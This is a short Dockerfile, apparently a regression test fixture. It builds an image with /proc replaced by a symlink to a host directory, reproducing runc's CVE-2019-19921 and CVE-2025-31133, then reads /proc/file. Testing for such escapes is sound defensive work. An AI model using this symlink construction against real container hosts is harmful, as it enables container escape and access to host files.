# The image has a link where /proc is mounted (runc's CVE-2019-19921 and CVE-2025-31133).
ARG BASE
FROM ${BASE} AS other
ARG HOST_DIRECTORY
RUN mkdir /new && ln -s "$HOST_DIRECTORY" /new/proc && cp -a /bin /new
FROM scratch
COPY --from=other /new/ /
RUN ["/bin/cat", "/proc/file"]
